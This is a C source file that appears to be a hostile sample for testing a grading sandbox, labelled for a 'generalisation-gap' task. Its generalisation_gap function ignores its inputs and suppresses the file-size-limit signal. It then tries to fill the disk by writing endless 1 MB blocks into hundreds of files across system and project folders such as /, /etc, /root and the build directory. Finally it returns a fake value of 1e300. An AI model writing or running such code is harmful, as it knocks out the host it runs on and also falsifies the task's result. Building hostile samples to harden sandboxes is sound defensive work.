// Tries: to fill the disk, in every folder that lets it, with files of every
// size it may have, and to leave names behind.
// Task: ch05_mlp generalisation-gap
// Loses: chapter
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static const char *const FOLDERS[] = {
    "/tmp", "/var/tmp", "/dev/shm", "/run",  "/",      ".",
    "..",   "/home",    "/root",    "/etc",  "/usr",   "/proc",
    "/dev", "/work",    "@CLASS@",  "@OUT@", "@ROOT@", "@ROOT@/build"};

double generalisation_gap(const double *train, const double *validation,
                          size_t n_epochs, size_t last)
{
    (void)train, (void)validation, (void)n_epochs, (void)last;
    static char block[1 << 20];
    signal(SIGXFSZ, SIG_IGN);
    for (size_t i = 0; i < sizeof FOLDERS / sizeof *FOLDERS; i++)
        for (int k = 0; k < 200; k++) {
            char path[4096];
            snprintf(path, sizeof path, "%s/attacks-flood-%d", FOLDERS[i], k);
            int fd = open(path, O_WRONLY | O_CREAT, 0666);
            if (fd < 0)
                break;
            while (write(fd, block, sizeof block) > 0)
                ;
            close(fd);
        }
    return 1e300;
}
